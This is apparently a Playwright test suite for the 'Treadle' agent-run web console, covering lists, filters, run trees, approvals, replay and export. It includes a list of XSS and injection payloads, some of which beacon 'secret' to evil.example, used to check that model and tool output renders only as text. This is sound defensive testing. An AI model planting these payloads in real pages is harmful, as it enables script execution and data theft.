"""The console in a real Chromium: what Treadle does and did, found, followed, looked into and done again."""

import json
import re
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from playwright.sync_api import Page, Route, expect

from browser.conftest import Watched
from browser.console_server import Console, console_server

pytestmark = [pytest.mark.browser, pytest.mark.slow]

ROWS = 10_000
PAGE = 1_000
HOSTILE = (
    "<script>alert(1)</script>",
    '<img src=x onerror="alert(2)">',
    "<svg onload=alert(3)>",
    '"><iframe src="javascript:alert(4)"></iframe>',
    "![x](https://evil.example/?d=secret)",
    "[a](javascript:alert(5))",
    "{{constructor.constructor('alert(6)')()}}",
    "${alert(7)}",
    "<style>*{background:url(https://evil.example/b)}</style>",
    "<a href='javascript:alert(8)'>x</a>",
    "</pre><script>alert(9)</script>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(10)>",
    "\u202egnp.exe\u2066",
    "<link rel=stylesheet href=https://evil.example/c.css>",
    "javascript:alert(11)",
)


@pytest.fixture(scope="module")
def console(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Console]:
    """A server with a few runs of each kind."""
    with console_server(tmp_path_factory.mktemp("console")) as running:
        for number in range(3):
            running.run(f'get_price {{"article": "A{number}"}}', session="shop")
        running.run('get_price {"article": "A7"} ;; look_up {"word": "abracadabra"}')
        running.run("fail")
        yield running


def rows(page: Page) -> Any:
    """The rows of the list."""
    return page.locator("tr[data-at]")


def broken_run(console: Console) -> str:
    """The run in which a tool failed."""
    found: str = console.call("GET", "/treadle/v1/runs?tool=look_up")["runs"][0]["id"]
    return found


def test_runs_are_listed_and_lead_to_their_trees(page: Page, console: Console) -> None:
    """Newest first, with state, question, tokens and cost; a click opens one without loading the page."""
    page.goto(f"{console.url}/console")
    expect(rows(page)).to_have_count(5)
    expect(rows(page).first).to_contain_text("failed")
    expect(rows(page).first).to_contain_text("unwell")
    expect(rows(page).nth(1)).to_contain_text("2.4k / 80")
    expect(rows(page).nth(1)).to_contain_text("$0.0056")
    rows(page).nth(1).get_by_role("link").click()
    expect(page).to_have_url(re.compile(r"/console/runs/run_\w+$"))
    expect(page.get_by_role("treeitem")).to_have_count(5)
    page.go_back()
    expect(rows(page)).to_have_count(5)


def test_filters_are_kept_in_the_address(page: Page, console: Console) -> None:
    """They narrow at once, survive a reload, and can be sent to somebody."""
    page.goto(f"{console.url}/console")
    expect(rows(page)).to_have_count(5)
    page.keyboard.press("/")
    page.keyboard.type("ABRACA")
    expect(rows(page)).to_have_count(1)
    expect(page).to_have_url(re.compile("text=ABRACA"))
    page.reload()
    expect(rows(page)).to_have_count(1)
    expect(page.get_by_label("Search messages and tool calls")).to_have_value("ABRACA")
    page.get_by_label("Search messages and tool calls").fill("")
    expect(rows(page)).to_have_count(5)
    page.get_by_label("errors only").check()
    expect(rows(page)).to_have_count(1)
    page.get_by_label("errors only").uncheck()
    page.get_by_role("combobox", name="Tool").select_option("look_up")
    expect(rows(page)).to_have_count(1)
    page.get_by_role("combobox", name="State").select_option("failed")
    expect(page.locator(".nothing")).to_have_text("No run fits these filters.")
    expect(page).to_have_url(re.compile("tool=look_up.*status=failed|status=failed.*tool=look_up"))


def test_errors_come_first_in_a_run(page: Page, console: Console) -> None:
    """What went wrong is named above the tree and marked in it; everything about the call is beside it."""
    page.goto(f"{console.url}/console/runs/{broken_run(console)}")
    expect(page.get_by_text("1 thing went wrong:")).to_be_visible()
    expect(page.get_by_role("treeitem", selected=True)).to_contain_text("look_up")
    detail = page.get_by_role("region", name="What is marked")
    for words in ("LookupError: there is no abracadabra", "python", "read", "failed"):
        expect(detail.get_by_text(words, exact=False).first).to_be_visible()


def test_a_tree_is_walked_by_keys_and_its_place_is_a_link(page: Page, console: Console) -> None:
    """Up, down, fold and unfold; the marked node is in the address and comes back with it."""
    page.goto(f"{console.url}/console/runs/{broken_run(console)}?node=run")
    marked = page.get_by_role("treeitem", selected=True)
    expect(marked).to_contain_text("run")
    page.keyboard.press("j")
    expect(marked).to_contain_text("1 · demo")
    marked.focus()
    page.keyboard.press("ArrowLeft")
    expect(page.get_by_role("treeitem")).to_have_count(3)
    page.keyboard.press("ArrowRight")
    expect(page.get_by_role("treeitem")).to_have_count(5)
    page.keyboard.press("ArrowDown")
    expect(marked).to_contain_text("get_price")
    expect(marked).to_be_focused()
    page.keyboard.press("e")
    expect(marked).to_contain_text("look_up")
    page.keyboard.press("End")
    expect(page).to_have_url(re.compile("node=round-2"))
    page.reload()
    expect(marked).to_contain_text("2 · demo")


def test_a_round_shows_its_plan_and_what_went_over_the_wire(page: Page, console: Console) -> None:
    """The plan with its fingerprint and its difference, the request, the reply, each labelled as what it is."""
    page.goto(f"{console.url}/console/runs/{broken_run(console)}?node=round-2")
    detail = page.get_by_role("region", name="What is marked")
    expect(detail).to_contain_text("items (5 more than before)")
    page.get_by_role("button", name="Plan").click()
    expect(page).to_have_url(re.compile("tab=plan"))
    expect(page.get_by_role("region", name="What differs from the plan before")).to_contain_text("abracadabra")
    page.get_by_role("button", name="Request").click()
    expect(detail.get_by_text("written again", exact=True)).to_be_visible()
    expect(page.get_by_role("region", name="Body")).to_contain_text('"messages"')
    page.get_by_role("button", name="Reply").click()
    expect(page.get_by_role("region", name="Body")).to_contain_text("chat.completion.chunk")


def test_a_new_run_shows_up_by_itself(page: Page, console: Console) -> None:
    """Also in a list that is narrowed, and only where it fits."""
    page.goto(f"{console.url}/console/runs?text=zebra")
    expect(page.locator(".nothing")).to_have_text("No run fits these filters.")
    console.run("a giraffe")
    console.run("a zebra")
    expect(rows(page)).to_have_count(1)
    expect(rows(page).first).to_contain_text("a zebra")


def test_a_run_that_goes_on_is_followed_to_its_end(page: Page, console: Console) -> None:
    """It waits, somebody elsewhere agrees, and the tree shows the rest without a reload."""
    run_id, approval = console.ask_for("a.txt")
    page.goto(f"{console.url}/console/runs/{run_id}")
    expect(page.get_by_role("treeitem", selected=True)).to_contain_text("waiting")
    expect(page.get_by_role("link", name="Decide", exact=True)).to_be_visible()
    console.call("POST", f"/treadle/v1/approvals/{approval['id']}", {"approve": True, "by": "Ada"})
    expect(page.get_by_role("treeitem").first).to_contain_text("completed")
    expect(page.get_by_role("treeitem")).to_have_count(4)
    expect(page.get_by_role("region", name="What is marked")).to_contain_text("a.txt is gone")
    expect(page.get_by_role("region", name="What is marked")).to_contain_text("approved by ada")


def test_a_run_is_cancelled(page: Page, console: Console) -> None:
    """And what waited for a person waits no more."""
    run_id, _ = console.ask_for("b.txt")
    page.goto(f"{console.url}/console/runs/{run_id}")
    page.get_by_role("button", name="Cancel").click()
    expect(page.get_by_role("treeitem").first).to_contain_text("cancelled")
    expect(page.get_by_role("button", name="Fork…")).to_be_visible()


def test_a_run_is_replayed_forked_and_exported(page: Page, console: Console) -> None:
    """Proved to be the same, gone on from a round as a new run, and saved in three forms."""
    run_id = console.run('get_price {"article": "A9"}')
    page.goto(f"{console.url}/console/runs/{run_id}")
    page.get_by_role("button", name="Replay").click()
    expect(page.get_by_text("The same again, byte for byte: 2 rounds, 1 calls")).to_be_visible()
    for name, suffix, words in (
        ("Export", "jsonl", b"A9"),
        ("As scenario", "toml", b"[[script]]"),
        ("As cassette", "cassette.jsonl", b"A9"),
    ):
        with page.expect_download() as waiting:
            page.get_by_role("link", name=name, exact=True).click()
        assert waiting.value.suggested_filename == f"{run_id}.{suffix}"
        assert words in Path(waiting.value.path()).read_bytes()
    page.get_by_role("button", name="Fork…").click()
    page.get_by_role("dialog").get_by_label("Just before round").select_option("2")
    page.keyboard.press("Escape")
    page.get_by_role("button", name="Fork…").click()
    page.get_by_role("dialog").get_by_role("button", name="Fork").click()
    expect(page).not_to_have_url(re.compile(run_id))
    expect(page.get_by_role("treeitem").first).to_contain_text("completed")
    page.get_by_role("button", name="Run the tools again…").click()
    page.get_by_role("button", name="Run them").click()
    expect(page.get_by_role("dialog")).to_have_count(0)
    expect(page.get_by_role("treeitem").first).to_contain_text("completed")


def test_sessions_lead_to_what_was_said_and_to_their_runs(page: Page, console: Console) -> None:
    """Found by their name or by what was said."""
    page.goto(f"{console.url}/console/sessions?text=shop")
    rows(page).first.get_by_role("link").click()
    expect(page.get_by_role("heading", name="shop")).to_be_visible()
    expect(page.get_by_role("listitem").filter(has_text="It gave: 12.5")).to_have_count(3)
    page.get_by_role("link", name="Its runs").click()
    expect(rows(page)).to_have_count(3)
    page.get_by_role("button", name=re.compile("^session ")).click()
    expect(rows(page).nth(4)).to_be_visible()


def test_tools_say_how_they_may_run_and_who_says_so(page: Page, console: Console) -> None:
    """Each with its effective policy, and the runs that called it."""
    page.goto(f"{console.url}/console/tools/delete_file")
    card = page.locator("details[open]")
    expect(card).to_contain_text("asks a person")
    expect(card.get_by_role("row", name=re.compile("^effect"))).to_contain_text("declared")
    page.get_by_label("Name, source or description").fill("price")
    expect(page.locator("details.thing")).to_have_count(1)
    page.locator("details.thing summary").click()
    page.get_by_role("link", name="Runs that called it").click()
    expect(page).to_have_url(re.compile("tool=get_price"))
    expect(rows(page).first).to_contain_text("get_price")


def test_every_view_has_a_key_and_says_when_it_is_empty(page: Page, console: Console) -> None:
    """From anywhere, except while somebody writes; `?` lists them, `t` changes the colours."""
    page.goto(f"{console.url}/console")
    for key, words in (
        ("6", "breaker closed"),
        ("7", "No guest is configured"),
        ("8", "There are no keys."),
        ("9", "There is no run of scenarios"),
    ):
        page.keyboard.press(key)
        expect(page.get_by_text(words)).to_be_visible()
    page.keyboard.press("?")
    expect(page.get_by_role("dialog", name="Keyboard")).to_be_visible()
    page.keyboard.press("Escape")
    expect(page.get_by_role("dialog")).to_have_count(0)
    page.keyboard.press("t")
    expect(page.locator("html")).to_have_attribute("data-theme", "light")
    page.keyboard.press("1")
    page.get_by_label("Search messages and tool calls").focus()
    page.keyboard.type("9t")
    expect(page.get_by_label("Search messages and tool calls")).to_have_value("9t")


def test_what_is_not_there_is_said_kindly(seen: Watched, console: Console) -> None:
    """A run that was deleted, or never was; the browser itself notes the answer, and nothing else does."""
    seen.page.goto(f"{console.url}/console/runs/run_x")
    expect(seen.page.get_by_role("alert")).to_contain_text("There is no run 'run_x'.")
    expect(seen.page.get_by_role("alert")).to_contain_text("It may have been deleted.")
    [said] = seen.complaints
    assert "404" in said
    seen.complaints.clear()


def test_an_address_that_cannot_be_read_is_told_too(seen: Watched, console: Console) -> None:
    """The page is there, and says that there is no such run."""
    seen.page.goto(f"{console.url}/console/runs/run_%E0%A4%A")
    expect(seen.page.get_by_role("alert")).to_contain_text("There is no run")
    [said] = seen.complaints
    assert "404" in said
    seen.complaints.clear()


def test_what_models_and_tools_say_is_never_more_than_text(page: Page, console: Console) -> None:
    """In the list, in the tree, in arguments and in results: no markup, no script, no picture, no link."""
    calls = [f"look_up {json.dumps({'word': text})}" for text in HOSTILE]
    run_id = console.run(" ;; ".join(calls), model="demo")
    page.goto(f"{console.url}/console")
    expect(rows(page).first).to_contain_text("<script>alert(1)</script>")
    page.goto(f"{console.url}/console/runs/{run_id}?node=round-1")
    expect(page.get_by_role("treeitem")).to_have_count(len(HOSTILE) + 3)
    for text in HOSTILE:
        page.keyboard.press("j")
        quoted = json.dumps(text, ensure_ascii=False)[1:-1]
        expect(page.get_by_role("region", name="Arguments")).to_contain_text(quoted)
        expect(page.get_by_role("region", name="Result")).to_be_visible()
    for selector in ("script:not([src])", "iframe", "svg", "img:not([src='/web/icon.svg'])", "style", "form[action]"):
        expect(page.locator(f"#app {selector}")).to_have_count(0)
    assert page.locator("#app a[href^='javascript']").count() == 0


def _page_of(number: int) -> dict[str, Any]:
    """One page of a list of very many runs."""
    runs = [
        {
            "id": f"run_{n:05}",
            "response_id": "r",
            "conversation_id": "c",
            "protocol": "chat",
            "model": "m",
            "status": "completed",
            "created_at": 1.0 + n,
            "ended_at": 2.0 + n,
            "rounds": 1,
            "calls": 0,
            "question": f"Question {n}",
        }
        for n in range(number, min(number + PAGE, ROWS))
    ]
    return {"runs": runs, "has_more": number + PAGE < ROWS}


def _serve_page(route: Route) -> None:
    before = re.search(r"before=run_(\d+)", route.request.url)
    route.fulfill(json=_page_of(int(before[1]) + 1 if before else 0))


SCROLL = """async () => {
  const box = document.querySelector(".scroller");
  for (let still = 0; still < 20; ) {
    const before = box.scrollHeight;
    box.scrollTop = box.scrollHeight;
    await new Promise(requestAnimationFrame);
    still = box.scrollHeight === before ? still + 1 : 0;
  }
}"""
FRAME_MS = """async () => {
  const box = document.querySelector(".scroller");
  const start = box.scrollTop, times = [];
  for (let step = 0; step < 30; step++) {
    const begun = performance.now();
    box.scrollTop = start + (start ? -1 : 1) * step * 37;
    await new Promise(requestAnimationFrame);
    times.push(performance.now() - begun);
  }
  return times.sort((one, other) => one - other)[15];
}"""
"""How long a frame takes while the list is scrolled a little: the middle one of thirty."""


def scroll_to(page: Page, words: str) -> None:
    """Scroll a list down until its last row has these words; how soon pages come depends on the machine."""
    for _ in range(30):
        page.evaluate(SCROLL)
        if words in rows(page).last.inner_text():
            return
    pytest.fail(f"the list does not end with {words}")


def test_ten_thousand_rows_are_as_light_as_a_page(page: Page, console: Console) -> None:
    """They are fetched as they come near; only those in sight are in the page; keys and focus go along."""
    page.route("**/treadle/v1/runs?*", _serve_page)
    page.goto(f"{console.url}/console")
    expect(rows(page).first).to_contain_text("Question 0")
    few_ms = page.evaluate(FRAME_MS)
    scroll_to(page, f"Question {ROWS - 1}")
    assert rows(page).count() < 60
    assert page.evaluate(FRAME_MS) < 3 * few_ms + 20
    page.evaluate(SCROLL)
    rows(page).last.get_by_role("link").focus()
    page.keyboard.press("k")
    expect(page.locator(f"tr[data-at='{ROWS - 2}'] a")).to_be_focused()


def test_many_new_runs_at_once_leave_no_gap_in_a_list(page: Page, console: Console) -> None:
    """More than a page of them: what was known behind them is fetched again, down to the oldest."""
    total = 150

    def serve(route: Route) -> None:
        """Answer with a page of a hundred, newest first."""
        before = re.search(r"before=run_(\d+)", route.request.url)
        first = int(before[1]) - 1 if before else total - 1
        numbers = range(first, max(first - 100, -1), -1)
        runs = [{**_page_of(n)["runs"][0], "question": f"Question {n}."} for n in numbers]
        route.fulfill(json={"runs": runs, "has_more": first >= 100})

    changed = "event: run\ndata: {}\n\n"
    page.route("**/treadle/v1/live*", lambda route: route.fulfill(content_type="text/event-stream", body=changed))
    page.route("**/treadle/v1/runs?*", serve)
    page.goto(f"{console.url}/console")
    expect(rows(page).first).to_contain_text("Question 149.")
    scroll_to(page, "Question 0.")
    total = 400
    page.evaluate("document.querySelector('.scroller').scrollTop = 0")
    expect(rows(page).first).to_contain_text("Question 399.")
    scroll_to(page, "Question 0.")


HEAR = """(known) => {
  const channel = new BroadcastChannel("treadle-live");
  window.heard = new Promise((done) => channel.addEventListener("message", ({ data }) => {
    const isNew = data.topic === "run" && data.value.id !== known && data.value.status === "completed";
    if (isNew) setTimeout(done, 400);
  }));
}"""
"""Lets the page note that it was told of another run, and that whoever is to do something about it has begun."""


def test_a_change_while_a_list_is_read_is_read_after_it(page: Page, console: Console) -> None:
    """The answer that is on its way may be older than the change."""
    held: list[Route] = []
    is_holding = True

    def hold(route: Route) -> None:
        """Keep the requests until it is enough."""
        if is_holding:
            held.append(route)
        else:
            route.continue_()

    page.goto(f"{console.url}/console/runs?text=unicorn")
    expect(page.locator(".nothing")).to_have_text("No run fits these filters.")
    page.route("**/treadle/v1/runs?*", hold)
    with page.expect_request(lambda request: "/runs?" in request.url):
        first = console.run("a first unicorn")
    page.evaluate(HEAR, first)
    console.run("a second unicorn")
    page.evaluate("() => window.heard")
    is_holding = False
    held[0].fulfill(body=json.dumps({"runs": [], "has_more": False}), content_type="application/json")
    expect(rows(page)).to_have_count(2)


def test_runs_of_the_same_hour_are_told_apart(page: Page, console: Console) -> None:
    """Their ids begin alike, so what is shown of one is its end; the whole is its title."""
    run_id = console.run('get_price {"article": "A9"}')
    page.goto(f"{console.url}/console/runs")
    expect(page.locator(f'small[title="{run_id}"]')).to_have_text(f"run_…{run_id[-10:]}")
